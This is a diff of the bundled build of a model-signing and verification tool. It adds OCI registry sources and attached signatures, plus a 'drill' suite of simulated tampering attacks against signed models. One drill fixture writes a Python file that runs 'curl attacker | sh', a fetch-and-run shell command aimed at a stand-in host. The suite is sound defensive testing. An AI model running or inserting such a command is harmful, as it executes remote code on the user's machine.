+    defaultSignaturePath: () => `${at2} (attached signatures)`,
+    provenance: { reference: formatReference(ref), manifest: root.digest, ...m2.artifactType ? { artifactType: m2.artifactType } : {} },
+    attached,
+    read: (req) => readOci(model_, problems, req),
+    ...pull ? { pull: pullTarget(pull, bundles) } : {}
+  };
+}
+function pullTarget(w2, bundles) {
+  return {
+    dir: w2.root,
+    async finish(verified, location) {
+      if (!verified) return w2.discard();
+      const bundle = location !== void 0 ? bundles.get(location) : void 0;
+      if (!bundle || w2.isWritten("model.sig")) return;
+      const sink = w2.open("model.sig");
+      sink.write(bundle);
+      sink.end(true);
+      const f2 = w2.failure("model.sig");
+      if (f2) throw usage("PULL_FAILED", f2.message);
+    }
+  };
+}
+var init_oci2 = __esm({
+  "src/source/oci/index.ts"() {
+    "use strict";
+    init_errors();
+    init_oci();
+    init_read2();
+    init_tree_writer();
+  }
+});
+
 // src/source/index.ts
+var source_exports = {};
+__export(source_exports, {
+  isArchivePath: () => isArchivePath2,
+  openSource: () => openSource
+});
 async function openSource(model, opts = {}) {
   if (model === "") throw usage("MODEL_NOT_FOUND", "model not found: the model path is empty");
   for (const s3 of SCHEMES) if (s3.test(model)) return s3.open(model, opts);
@@ -59045,7 +60625,10 @@ var init_source3 = __esm({
     init_directory();
     init_file();
     init_archive2();
-    SCHEMES = [];
+    SCHEMES = [
+      // oci:// (a registry) and oci:DIR (a layout); the client loads only for such models.
+      { test: (m2) => m2.startsWith("oci:"), open: async (m2, o) => (await Promise.resolve().then(() => (init_oci2(), oci_exports))).ociSource(m2, o.oci) }
+    ];
   }
 });
 
@@ -59254,7 +60837,7 @@ __export(pipeline_exports, {
   checkTrust: () => checkTrust,
   verifyModel: () => verifyModel
 });
-import path17 from "node:path";
+import path21 from "node:path";
 function requireIdentityPolicy(bundle, trust) {
   if (bundle.material.kind === "publicKey") return;
   const vm = bundle.json.verificationMaterial;
@@ -59297,7 +60880,7 @@ function checkRootDigest(statement, result) {
   return false;
 }
 function signedAsOneFile(model, statement) {
-  const base2 = path17.basename(model);
+  const base2 = path21.basename(model);
   const fileOf = (n) => statement.serialization.method === "shards" ? parseShardName(n)?.path ?? n : n;
   return statement.resources.length > 0 && statement.resources.every((r) => fileOf(r.name) === "." || fileOf(r.name) === base2);
 }
@@ -59323,10 +60906,39 @@ async function verifyModel(opts) {
   const stages = opts.stages ?? [];
   checkStageOrder(stages);
   const source = opts.source ?? await openSource(opts.model);
+  if (opts.signature === void 0 && source.attached) return verifyAttached(opts, source, source.attached, stages);
   const signature = opts.signature ?? source.defaultSignaturePath();
+  return verifyBundle(opts, source, stages, signature, () => readBundleFile(signature, void 0, { noFollow: opts.signature === void 0 }));
+}
+async function verifyAttached(opts, source, attached, stages) {
+  let list2;
+  try {
+    list2 = await attached.list();
+  } catch (e) {
+    if (!(e instanceof ModelsignError)) throw e;
+    const r = emptyResult(opts.model, attached.where);
+    r.failures.push({ code: "SIG_UNREADABLE", message: `cannot list the signatures attached to ${attached.where}: ${e.message}` });
+    return finish(r);
+  }
+  if (list2.length === 0) {
+    const r = emptyResult(opts.model, attached.where);
+    r.failures.push({ code: "SIG_MISSING", message: `no signature is attached to ${attached.where} (name a signature file with --signature)` });
+    return finish(r);
+  }
+  let first;
+  let trusted;
+  for (const sig of list2) {
+    const r = await verifyBundle(opts, source, stages, sig.location, () => sig.read());
+    if (r.verified) return r;
+    first ??= r;
+    if (r.signerInfo) trusted ??= r;
+  }
+  return trusted ?? first;
+}
+async function verifyBundle(opts, source, stages, signature, readBytes) {
   const result = emptyResult(opts.model, signature);
   try {
-    const bundle = parseBundle(await readBundleFile(signature, void 0, { noFollow: opts.signature === void 0 }));
+    const bundle = parseBundle(await readBytes());
     requireIdentityPolicy(bundle, opts.trust);
     const signer = await checkTrust(bundle, opts.trust);
     result.signerInfo = signer;
@@ -59643,7 +61255,7 @@ async function walkLineage(opts) {
     }
     node.verified = node.failure === null;
     node.datasets = vb.lineage?.datasets ?? [];
-    const path25 = new Set(onPath).add(link.rootDigest);
+    const path30 = new Set(onPath).add(link.rootDigest);
     const nextBelow = new Map(below);
     const prev = nextBelow.get(vb.name);
     if (prev === void 0 || prev !== null && import_semver6.default.lt(vb.version, prev)) nextBelow.set(vb.name, vb.version);
@@ -59655,7 +61267,7 @@ async function walkLineage(opts) {
         }
         break;
       }
-      node.parents.push(await visit(p2, node, depth + 1, path25, nextBelow));
+      node.parents.push(await visit(p2, node, depth + 1, path30, nextBelow));
     }
     return node;
   };
@@ -59738,18 +61350,18 @@ __export(state_exports, {
   recordVerified: () => recordVerified,
   serializeState: () => serializeState
 });
-import { open as open6, rename as rename2, stat as stat8, unlink as unlink4 } from "node:fs/promises";
-function bad4(file, msg) {
+import { open as open7, rename as rename2, stat as stat9, unlink as unlink4 } from "node:fs/promises";
+function bad6(file, msg) {
   throw reject("STATE_CORRUPT", `state file ${file} is corrupt (${msg}); refusing to guess the highest version`);
 }
 function parseState(text, file) {
   const j2 = parseStrictJson(text, { what: `state file ${file}`, code: "STATE_CORRUPT" });
-  if (!isObject(j2)) bad4(file, "not a JSON object");
-  if (j2.schema !== STATE_SCHEMA) bad4(file, `schema is not ${STATE_SCHEMA}`);
-  if (!isObject(j2.models)) bad4(file, "models must be an object");
+  if (!isObject(j2)) bad6(file, "not a JSON object");
+  if (j2.schema !== STATE_SCHEMA) bad6(file, `schema is not ${STATE_SCHEMA}`);
+  if (!isObject(j2.models)) bad6(file, "models must be an object");
   const out2 = /* @__PURE__ */ new Map();
   for (const [name2, v2] of Object.entries(j2.models)) {
-    if (!isObject(v2) || typeof v2.version !== "string" || !import_semver7.default.valid(v2.version)) bad4(file, `entry "${name2.slice(0, 80)}" has no semver version`);
+    if (!isObject(v2) || typeof v2.version !== "string" || !import_semver7.default.valid(v2.version)) bad6(file, `entry "${name2.slice(0, 80)}" has no semver version`);
     const e = { version: v2.version };
     if (typeof v2.rootDigest === "string") e.rootDigest = v2.rootDigest;
     if (typeof v2.updated === "string") e.updated = v2.updated;
@@ -59763,7 +61375,7 @@ async function readState(file) {
     buf = await readRegularFile(file, MAX_STATE_BYTES);
   } catch (e) {
     if (errnoCode(e) === "ENOENT") return /* @__PURE__ */ new Map();
-    if (e instanceof FileTooLarge) bad4(file, `larger than ${MAX_STATE_BYTES} bytes`);
+    if (e instanceof FileTooLarge) bad6(file, `larger than ${MAX_STATE_BYTES} bytes`);
     const why2 = e instanceof NotRegularFile ? "not a regular file" : errnoCode(e) ?? String(e);
     throw usage("STATE_UNREADABLE", `cannot read state file ${file}: ${why2}`);
   }
@@ -59785,7 +61397,7 @@ async function acquireLock(lock, timeoutMs, staleMs) {
   const deadline = Date.now() + timeoutMs;
   for (; ; ) {
     try {
-      const fh = await open6(lock, "wx", 420);
+      const fh = await open7(lock, "wx", 420);
       await fh.writeFile(`${process.pid}
 `);
       await fh.close();
@@ -59795,7 +61407,7 @@ async function acquireLock(lock, timeoutMs, staleMs) {
       if (c !== "EEXIST") throw usage("STATE_UNREADABLE", `cannot create lock file ${lock}: ${writeFailureWords(e, lock)}`);
     }
     try {
-      const st2 = await stat8(lock);
+      const st2 = await stat9(lock);
       if (Date.now() - st2.mtimeMs > staleMs) {
         const aside = `${lock}.${process.pid}.${Date.now()}.stale`;
         await rename2(lock, aside).then(() => unlink4(aside)).catch(() => void 0);
@@ -59849,18 +61461,18 @@ function licenseOf(n) {
   if (n.license !== null) return clean(n.license);
   return n.depth > 0 && n.signer === null ? "unknown" : "none";
 }
-function describe3(n) {
+function describe4(n) {
   const id2 = clean(`${n.name}@${n.version ?? "?"}`);
   const parts = [n.relation ? `${n.relation} of ${id2}` : id2, n.rootDigest, `signer: ${clean(n.signer ?? "unknown")}`, `license: ${licenseOf(n)}`];
   parts.push(n.verified ? "verified" : `NOT VERIFIED${n.failure ? ` [${n.failure.code}]` : ""}`);
   return parts.join("  ");
 }
 function renderTree(root) {
-  const lines = [describe3(root)];
+  const lines = [describe4(root)];
   const walk = (n, prefix) => {
     n.parents.forEach((p2, i) => {
       const last = i === n.parents.length - 1;
-      lines.push(`${prefix}${last ? "\u2514\u2500 " : "\u251C\u2500 "}${describe3(p2)}`);
+      lines.push(`${prefix}${last ? "\u2514\u2500 " : "\u251C\u2500 "}${describe4(p2)}`);
       walk(p2, `${prefix}${last ? "   " : "\u2502  "}`);
     });
   };
@@ -60007,9 +61619,9 @@ var init_version = __esm({
 });
 
 // src/audit/record.ts
-import { createHash as createHash5 } from "node:crypto";
+import { createHash as createHash9 } from "node:crypto";
 function lineHash(line) {
-  return createHash5("sha256").update(line).digest("hex");
+  return createHash9("sha256").update(line).digest("hex");
 }
 function formatRecord(d, seq, prev, tool) {
   const unique = [...new Set(d.failureCodes)].slice(0, MAX_CODES);
@@ -60049,8 +61661,8 @@ var append_exports = {};
 __export(append_exports, {
   appendAudit: () => appendAudit
 });
-import { constants as constants6 } from "node:fs";
-import { open as open7, stat as stat9, unlink as unlink5, writeFile as writeFile2 } from "node:fs/promises";
+import { constants as constants8 } from "node:fs";
+import { open as open8, stat as stat10, unlink as unlink5, writeFile as writeFile2 } from "node:fs/promises";
 async function withLock(file, fn) {
   const lock = `${file}.lock`;
   const deadline = Date.now() + LOCK_WAIT_MS;
@@ -60061,7 +61673,7 @@ async function withLock(file, fn) {
       break;
     } catch (e) {
       if (errnoCode(e) !== "EEXIST") throw usage("AUDIT_WRITE_FAILED", `cannot lock audit log ${file}: ${writeFailureWords(e, lock)}`);
-      const st2 = await stat9(lock).catch(() => void 0);
+      const st2 = await stat10(lock).catch(() => void 0);
       if (st2 && Date.now() - st2.mtimeMs > STALE_MS) {
         await unlink5(lock).catch(() => void 0);
         continue;
@@ -60079,7 +61691,7 @@ async function withLock(file, fn) {
 async function readTail(file) {
   let fh;
   try {
-    fh = await open7(file, constants6.O_RDONLY | (constants6.O_NONBLOCK ?? 0));
+    fh = await open8(file, constants8.O_RDONLY | (constants8.O_NONBLOCK ?? 0));
   } catch (e) {
     if (errnoCode(e) === "ENOENT") return { last: void 0, endsWithNewline: true, lastSeq: 0 };
     throw usage("AUDIT_WRITE_FAILED", `cannot read audit log ${file}: ${errnoCode(e) ?? String(e)}`);
@@ -60118,7 +61730,7 @@ async function appendAudit(file, decision) {
 `, "utf8");
     let fh;
     try {
-      fh = await open7(file, constants6.O_WRONLY | constants6.O_APPEND | constants6.O_CREAT, 384);
+      fh = await open8(file, constants8.O_WRONLY | constants8.O_APPEND | constants8.O_CREAT, 384);
     } catch (e) {
       throw usage("AUDIT_WRITE_FAILED", `cannot open audit log ${file}: ${writeFailureWords(e, file)}`);
     }
@@ -60145,6 +61757,27 @@ var init_append = __esm({
     init_record();
     LOCK_WAIT_MS = 1e4;
     STALE_MS = 3e4;
+  }
+});
+
+// src/cli/oci.ts
+import os7 from "node:os";
+import path23 from "node:path";
+function addRegistryOptions(cmd) {
+  return cmd.option("--insecure-registry <host>", "oci:// models: reach this registry (HOST[:PORT]) over plain HTTP instead of HTTPS; repeatable", collect, []);
+}
+function registryOptions(flags) {
+  const insecure = Array.isArray(flags.insecureRegistry) ? flags.insecureRegistry : [];
+  const dockerConfigDir = process.env.DOCKER_CONFIG || path23.join(os7.homedir(), ".docker");
+  return { insecureRegistries: insecure, dockerConfigDir };
+}
+function isOciModel(model) {
+  return model.startsWith("oci:");
+}
+var init_oci3 = __esm({
+  "src/cli/oci.ts"() {
+    "use strict";
+    init_io();
   }
 });
 
@@ -60289,8 +61922,8 @@ async function digestModel(opts) {
     ...opts.engine ? { engine: opts.engine } : {},
     onListed: (listing2) => {
       if (listing2.problems.length > 0) throw listingRefusal(listing2, opts.model);
-      const bad6 = nameRefusal(listing2);
-      if (bad6) throw bad6;
+      const bad8 = nameRefusal(listing2);
+      if (bad8) throw bad8;
       for (const f2 of listing2.files) count(f2.name, f2.size);
       budget.check();
     },
@@ -60305,8 +61938,8 @@ async function digestModel(opts) {
   });
   const listing = read.listing;
   if (listing.problems.length > 0) throw listingRefusal(listing, opts.model);
-  const bad5 = nameRefusal(listing);
-  if (bad5) throw bad5;
+  const bad7 = nameRefusal(listing);
+  if (bad7) throw bad7;
   const resources = [];
   for (const f2 of listing.files) {
     for (const [start, end] of plannedRanges(method, opts.shardSize, f2.size)) {
@@ -60371,7 +62004,8 @@ async function signModel(opts) {
   const source = opts.source ?? await openSource(opts.model);
   const signaturePath = opts.signature ?? source.defaultSignaturePath();
   const write = opts.write !== false;
-  if (write) await checkWritable(signaturePath, "file");
+  const attach = opts.signature === void 0 ? source.attached : void 0;
+  if (write && !attach) await checkWritable(signaturePath, "file");
   const budget = new SizeBudget(opts.hash ?? "sha256", opts.shardSize);
   const d = await digestModel({ ...opts, source, signature: signaturePath, budget });
   const name2 = opts.name ?? source.defaultName();
@@ -60381,6 +62015,8 @@ async function signModel(opts) {
     ...opts.license ? { license: opts.license } : {},
     created: (/* @__PURE__ */ new Date()).toISOString(),
     tool: `modelsign/${TOOL_VERSION}`,
+    // Where the bytes came from (an OCI manifest digest): recorded, not what verify pins to.
+    ...source.provenance ? { source: { ...source.provenance } } : {},
     ...opts.extraMetadata ?? {}
   };
   const statement = buildStatement({ name: name2, rootDigest: d.rootDigest, serialization: d.serialization, resources: d.resources, metadata });
@@ -60398,7 +62034,8 @@ async function signModel(opts) {
     bytes: d.listing.files.reduce((s3, f2) => s3 + f2.size, 0)
   };
   if (opts.beforeWrite) await opts.beforeWrite(r);
-  if (write) await writeAtomic(signaturePath, bundleText, "WRITE_FAILED", signaturePath, { createDirs: true });
+  if (write && attach) r.signaturePath = await attach.attach(Buffer.from(bundleText, "utf8"));
+  else if (write) await writeAtomic(signaturePath, bundleText, "WRITE_FAILED", signaturePath, { createDirs: true });
   return r;
 }
 var ID, PLAIN_SEMVER;
@@ -60433,8 +62070,8 @@ var init_signature_path = __esm({
 });
 
 // src/scan/scan-path.ts
-import { lstat as lstat5 } from "node:fs/promises";
-import path19 from "node:path";
+import { lstat as lstat6 } from "node:fs/promises";
+import path24 from "node:path";
 function summarise(target, files, extra, failOn = "low", refused = 0) {
   const findings = [...extra, ...files.flatMap((f2) => f2.findings)].sort((a, b2) => severityRank(b2.severity) - severityRank(a.severity));
   const clean5 = !findings.some((f2) => severityRank(f2.severity) >= severityRank(failOn));
@@ -60456,7 +62093,7 @@ async function scanPath(target, opts = {}) {
   const limits = { ...DEFAULT_LIMITS, ...opts.limits };
   let st2;
   try {
-    st2 = await lstat5(target);
+    st2 = await lstat6(target);
   } catch (e) {
     throw usage("SCAN_NOT_FOUND", errnoCode(e) === "ENOENT" ? `no such file or directory: ${target}` : `cannot read ${target}: ${errnoCode(e) ?? String(e)}`);
   }
@@ -60464,7 +62101,7 @@ async function scanPath(target, opts = {}) {
   const source = await openSource(target);
   const inspector = new ScanInspector(limits);
   const { listing } = await source.read({ ranges: () => [], allowSymlinks: false, ignorePaths: [], inspector });
-  const shown = source.kind === "archive" ? (name2) => `${path19.basename(target)}:${name2}` : (name2) => name2;
+  const shown = source.kind === "archive" ? (name2) => `${path24.basename(target)}:${name2}` : (name2) => name2;
   for (const r of inspector.reports) {
     r.file = shown(r.file);
     for (const f2 of r.findings) f2.file = shown(f2.file);
@@ -60473,7 +62110,7 @@ async function scanPath(target, opts = {}) {
   const extra = listing.problems.map((p2) => ({
     code: "SCAN_SKIPPED",
     severity: UNSCANNED_HIGH.has(p2.code) || p2.path === void 0 ? "high" : "medium",
-    file: p2.path !== void 0 ? shown(p2.path) : path19.basename(target),
+    file: p2.path !== void 0 ? shown(p2.path) : path24.basename(target),
     message: notScanned(p2)
   }));
   for (const f2 of inspector.findings) extra.push(f2);
@@ -60492,8 +62129,8 @@ var init_scan_path = __esm({
 });
 
 // src/audit/check.ts
-import { constants as constants7 } from "node:fs";
-import { open as open8 } from "node:fs/promises";
+import { constants as constants9 } from "node:fs";
+import { open as open9 } from "node:fs/promises";
 function lineProblem(line, lineNo, expectPrev) {
   let text;
   try {
@@ -60527,7 +62164,7 @@ async function checkAuditLog(file, opts = {}) {
   }
   let fh;
   try {
-    fh = await open8(file, constants7.O_RDONLY | (constants7.O_NONBLOCK ?? 0));
+    fh = await open9(file, constants9.O_RDONLY | (constants9.O_NONBLOCK ?? 0));
   } catch (e) {
     const c = errnoCode(e);
     throw usage("AUDIT_UNREADABLE", c === "ENOENT" ? `audit log not found: ${file}` : `cannot read audit log ${file}: ${c ?? String(e)}`);
@@ -60677,8 +62314,8 @@ var init_hostile = __esm({
 });
 
 // src/drill/model.ts
-import { mkdir as mkdir3, writeFile as writeFile3 } from "node:fs/promises";
-import path20 from "node:path";
+import { mkdir as mkdir4, writeFile as writeFile3 } from "node:fs/promises";
+import path25 from "node:path";
 function filler(n, seed) {
   const b2 = Buffer.alloc(n);
   let x = seed >>> 0 || 1;
@@ -60697,12 +62334,12 @@ function safetensorsShard(tensor, data) {
   return Buffer.concat([len, header, data]);
 }
 async function writeModel(dir, seed = 1) {
-  await mkdir3(path20.join(dir, "tokenizer"), { recursive: true });
-  await writeFile3(path20.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
-  await writeFile3(path20.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
-  await writeFile3(path20.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
-  await writeFile3(path20.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
-  await writeFile3(path20.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
+  await mkdir4(path25.join(dir, "tokenizer"), { recursive: true });
+  await writeFile3(path25.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
+  await writeFile3(path25.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
+  await writeFile3(path25.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
+  await writeFile3(path25.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
+  await writeFile3(path25.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
   return dir;
 }
 async function signDrillModel(dir, key, o = {}) {
@@ -60740,18 +62377,18 @@ var init_types4 = __esm({
 
 // src/drill/attacks.ts
 import { execFileSync } from "node:child_process";
-import { createHash as createHash6, generateKeyPairSync as generateKeyPairSync2 } from "node:crypto";
-import { appendFile, copyFile, mkdir as mkdir4, readFile, rename as rename3, rm as rm2, symlink, writeFile as writeFile4 } from "node:fs/promises";
+import { createHash as createHash10, generateKeyPairSync as generateKeyPairSync2 } from "node:crypto";
+import { appendFile, copyFile, mkdir as mkdir5, readFile, rename as rename3, rm as rm3, symlink, writeFile as writeFile4 } from "node:fs/promises";
 import { rmSync } from "node:fs";
-import path21 from "node:path";
+import path26 from "node:path";
 async function readSigned(model) {
-  const bundle = JSON.parse(await readFile(path21.join(model, "model.sig"), "utf8"));
+  const bundle = JSON.parse(await readFile(path26.join(model, "model.sig"), "utf8"));
   const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, "base64").toString("utf8"));
   return { bundle, statement };
 }
 async function writeSignedPayload(model, payload, key) {
   const bundle = await keySigner(key.priv, key.pub)(Buffer.from(payload, "utf8"));
-  await writeFile4(path21.join(model, "model.sig"), serializeBundle(bundle));
+  await writeFile4(path26.join(model, "model.sig"), serializeBundle(bundle));
 }
 async function signedWithExtraResource(ctx, dirName, extra) {
   const m2 = await ctx.copyBase(dirName);
@@ -60764,7 +62401,7 @@ async function signedWithExtraResource(ctx, dirName, extra) {
 }
 function canMakeFifo(dir) {
   if (process.platform === "win32") return false;
-  const probe = path21.join(dir, ".fifo-probe");
+  const probe = path26.join(dir, ".fifo-probe");
   try {
     execFileSync("mkfifo", [probe], { stdio: "ignore" });
     rmSync(probe, { force: true });
@@ -60774,8 +62411,8 @@ function canMakeFifo(dir) {
   }
 }
 async function emptyStore(ctx, name2) {
-  const dir = path21.join(ctx.tmp, name2);
-  await mkdir4(dir, { recursive: true });
+  const dir = path26.join(ctx.tmp, name2);
+  await mkdir5(dir, { recursive: true });
   return dir;
 }
 var sha256, ATTACKS;
@@ -60790,7 +62427,7 @@ var init_attacks = __esm({
     init_hostile();
     init_model();
     init_types4();
-    sha256 = (b2) => createHash6("sha256").update(b2).digest("hex");
+    sha256 = (b2) => createHash10("sha256").update(b2).digest("hex");
     ATTACKS = [
       {
         id: "changed-byte",
@@ -60798,7 +62435,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("changed-byte");
-          const f2 = path21.join(m2, SHARD_1);
+          const f2 = path26.join(m2, SHARD_1);
           const b2 = await readFile(f2);
           const i = b2.length >> 1;
           b2[i] = b2[i] ^ 1;
@@ -60812,7 +62449,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("injected-file");
-          await writeFile4(path21.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
+          await writeFile4(path26.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
           return { model: m2 };
         }
       },
@@ -60822,7 +62459,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("removed-shard");
-          await rm2(path21.join(m2, SHARD_2));
+          await rm3(path26.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -60832,9 +62469,9 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("renamed-file");
-          await rename3(path21.join(m2, SHARD_1), path21.join(m2, "tmp"));
-          await rename3(path21.join(m2, SHARD_2), path21.join(m2, SHARD_1));
-          await rename3(path21.join(m2, "tmp"), path21.join(m2, SHARD_2));
+          await rename3(path26.join(m2, SHARD_1), path26.join(m2, "tmp"));
+          await rename3(path26.join(m2, SHARD_2), path26.join(m2, SHARD_1));
+          await rename3(path26.join(m2, "tmp"), path26.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -60843,10 +62480,10 @@ var init_attacks = __esm({
         title: "another model's valid signature (same signer) put beside this model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const other = await writeModel(path21.join(ctx.tmp, "other-model"), 99);
+          const other = await writeModel(path26.join(ctx.tmp, "other-model"), 99);
           await signDrillModel(other, ctx.signer, { license: ctx.licenses.allowed });
           const m2 = await ctx.copyBase("swapped-signature");
-          await copyFile(path21.join(other, "model.sig"), path21.join(m2, "model.sig"));
+          await copyFile(path26.join(other, "model.sig"), path26.join(m2, "model.sig"));
           return { model: m2 };
         }
       },
@@ -60855,7 +62492,7 @@ var init_attacks = __esm({
         title: "the model re-signed by a key the set-up does not trust",
         needs: [],
         async build(ctx) {
-          const m2 = path21.join(ctx.tmp, "untrusted-key");
+          const m2 = path26.join(ctx.tmp, "untrusted-key");
           await writeModel(m2, 7);
           const kp = generateKeyPairSync2("ed25519");
           await signDrillModel(m2, { priv: kp.privateKey, pub: kp.publicKey });
@@ -60867,7 +62504,7 @@ var init_attacks = __esm({
         title: "the signature file removed",
         needs: [],
         async build(ctx) {
-          const m2 = path21.join(ctx.tmp, "missing-signature");
+          const m2 = path26.join(ctx.tmp, "missing-signature");
           await writeModel(m2, 8);
           return { model: m2 };
         }
@@ -60879,13 +62516,13 @@ var init_attacks = __esm({
         async build(ctx) {
           const m2 = await ctx.copyBase("edited-payload");
           const evil = safetensorsShard("a.weight", filler(64 * 1024, 666));
-          await writeFile4(path21.join(m2, SHARD_1), evil);
+          await writeFile4(path26.join(m2, SHARD_1), evil);
           const { bundle, statement } = await readSigned(m2);
           const r = statement.predicate.resources.find((x) => x.name === SHARD_1);
           r.digest = sha256(evil);
           statement.subject[0].digest.sha256 = rootDigest(statement.predicate.resources);
           bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString("base64");
-          await writeFile4(path21.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
+          await writeFile4(path26.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
           return { model: m2 };
         }
       },
@@ -60895,7 +62532,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("two-manifests");
-          await writeFile4(path21.join(m2, "modeling_llama.py"), "import os\n");
+          await writeFile4(path26.join(m2, "modeling_llama.py"), "import os\n");
           const { statement } = await readSigned(m2);
           const evil = JSON.parse(JSON.stringify(statement));
           evil.predicate.resources.push({ name: "modeling_llama.py", algorithm: "sha256", digest: sha256("import os\n") });
@@ -60909,7 +62546,7 @@ var init_attacks = __esm({
         title: 'signed manifest names "../secret.bin", a file outside the model with the signed digest',
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path21.join(ctx.tmp, "secret.bin");
+          const outside = path26.join(ctx.tmp, "secret.bin");
           await writeFile4(outside, "outside the model\n");
           return { model: await signedWithExtraResource(ctx, "traversal", { name: "../secret.bin", digest: sha256("outside the model\n") }) };
         }
@@ -60919,7 +62556,7 @@ var init_attacks = __esm({
         title: "signed manifest names an absolute path outside the model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path21.join(ctx.tmp, "secret-abs.bin");
+          const outside = path26.join(ctx.tmp, "secret-abs.bin");
           await writeFile4(outside, "outside the model (absolute)\n");
           return { model: await signedWithExtraResource(ctx, "absolute-path", { name: outside, digest: sha256("outside the model (absolute)\n") }) };
         }
@@ -60930,10 +62567,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-out");
-          const outside = path21.join(ctx.tmp, "config-copy.json");
-          await copyFile(path21.join(m2, "config.json"), outside);
-          await rm2(path21.join(m2, "config.json"));
-          await symlink(outside, path21.join(m2, "config.json"));
+          const outside = path26.join(ctx.tmp, "config-copy.json");
+          await copyFile(path26.join(m2, "config.json"), outside);
+          await rm3(path26.join(m2, "config.json"));
+          await symlink(outside, path26.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -60943,10 +62580,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-in");
-          await mkdir4(path21.join(m2, ".git"));
-          await copyFile(path21.join(m2, "config.json"), path21.join(m2, ".git", "config.json"));
-          await rm2(path21.join(m2, "config.json"));
-          await symlink(path21.join(".git", "config.json"), path21.join(m2, "config.json"));
+          await mkdir5(path26.join(m2, ".git"));
+          await copyFile(path26.join(m2, "config.json"), path26.join(m2, ".git", "config.json"));
+          await rm3(path26.join(m2, "config.json"));
+          await symlink(path26.join(".git", "config.json"), path26.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -60956,7 +62593,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature", "fifo"],
         async build(ctx) {
           const m2 = await ctx.copyBase("fifo");
-          execFileSync("mkfifo", [path21.join(m2, "pipe.bin")]);
+          execFileSync("mkfifo", [path26.join(m2, "pipe.bin")]);
           return { model: m2 };
         }
       },
@@ -60966,7 +62603,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("appended-bytes");
-          await appendFile(path21.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
+          await appendFile(path26.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
           return { model: m2 };
         }
       },
@@ -60975,9 +62612,9 @@ var init_attacks = __esm({
         title: "an older signed version presented after a newer one was verified (version rollback)",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const stateFile = path21.join(ctx.tmp, "rollback-state.json");
+          const stateFile = path26.join(ctx.tmp, "rollback-state.json");
           const setup = { storeDir: await emptyStore(ctx, "rollback-store"), stateFile };
-          const newer = path21.join(ctx.tmp, "rollback-newer");
+          const newer = path26.join(ctx.tmp, "rollback-newer");
           await writeModel(newer, 21);
           await signDrillModel(newer, ctx.signer, { version: "2.0.0", license: ctx.licenses.allowed });
           const r = await ctx.verify(newer, setup);
@@ -60992,12 +62629,12 @@ var init_attacks = __esm({
         title: "a correctly signed fine-tune of a revoked base model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const parentBundle = await readFile(path21.join(ctx.base, "model.sig"));
+          const parentBundle = await readFile(path26.join(ctx.base, "model.sig"));
           const { statement } = await readSigned(ctx.base);
           const parentDigest = `sha256:${statement.subject[0].digest.sha256}`;
-          const storeDir = path21.join(ctx.tmp, "revoked-store");
+          const storeDir = path26.join(ctx.tmp, "revoked-store");
           await recordBundle(storeDir, { name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest }, parentBundle);
-          const m2 = path21.join(ctx.tmp, "revoked-ancestor");
+          const m2 = path26.join(ctx.tmp, "revoked-ancestor");
           await writeModel(m2, 31);
           const lineage = { parents: [{ name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest, bundleDigest: bundleDigestOf(parentBundle), relation: "finetune" }] };
           await signDrillModel(m2, ctx.signer, { name: "drill-finetune", license: ctx.licenses.allowed, extra: { lineage } });
@@ -61011,7 +62648,7 @@ var init_attacks = __esm({
         async build(ctx) {
           const lic = ctx.licenses.outside;
           if (lic === void 0) throw new AttackNotApplicable("the policy allows every license the drill tried (it has no license rule that refuses one)");
-          const m2 = path21.join(ctx.tmp, "license-outside-policy");
+          const m2 = path26.join(ctx.tmp, "license-outside-policy");
           await writeModel(m2, 41);
           await signDrillModel(m2, ctx.signer, { license: lic });
           return { model: m2 };
